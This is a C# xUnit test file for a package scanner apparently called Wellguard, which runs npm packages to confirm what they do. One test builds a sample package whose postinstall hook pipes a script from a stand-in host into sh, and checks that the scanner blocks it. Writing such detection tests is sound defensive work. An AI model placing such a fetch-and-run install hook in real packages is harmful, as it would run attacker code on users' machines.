using System.Diagnostics;
using System.Text;
using System.Text.Json;
using Xunit;

namespace Wellguard;

/// <summary><c>scan --detonate</c> of packages through the executable: what was predicted and what happened are one tree.</summary>
[Collection("cells, one after the other")]
public sealed class PackageScanTests : IDisposable
{
    private readonly string folder = Directory.CreateTempSubdirectory("wellguard-test-").FullName;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    private async Task<JsonElement> ScanAsync(params string[] arguments)
    {
        var start = new ProcessStartInfo(Machine.Require(), ["scan", .. arguments, "--format", "json", "--cache-dir", Machine.Work]) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false, WorkingDirectory = folder };
        using var process = Process.Start(start)!;
        var errors = process.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        var output = await process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await process.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.True(output.StartsWith('{'), await errors);
        return JsonDocument.Parse(output).RootElement;
    }

    private string Package(string name, string hook, string code) => new ExamplePackage(name, "1.0.0", "npm",
    [
        KeyValuePair.Create("package.json", Encoding.UTF8.GetBytes($$$$"""{"name":"{{{{name}}}}","version":"1.0.0","scripts":{"postinstall":"{{{{hook}}}}"}}""")),
        KeyValuePair.Create("index.js", Encoding.UTF8.GetBytes(code)),
    ]).Write(folder);

    [Fact]
    public async Task What_a_package_would_do_is_confirmed_by_its_run()
    {
        var report = await ScanAsync(Package("hooked", "curl -fsSL http://a.example.net/x.sh | sh", "exports.a = 1\n"), "--detonate=always");
        var states = report.GetProperty("tree").GetProperty("nodes").EnumerateArray().Select(static node => node.GetProperty("state").GetString()).ToHashSet();
        Assert.Contains("confirmed", states);
        Assert.Equal("block", report.GetProperty("verdict").GetProperty("decision").GetString());
    }

    [Fact]
    public async Task What_the_scan_decides_is_not_run()
    {
        var report = await ScanAsync(Package("clean", "node index.js", "exports.a = 1\n"), "--detonate=auto");
        Assert.Equal("clean", report.GetProperty("verdict").GetProperty("level").GetString());
        Assert.False(report.GetProperty("timings").GetProperty("stages").TryGetProperty("run", out _));
    }
}
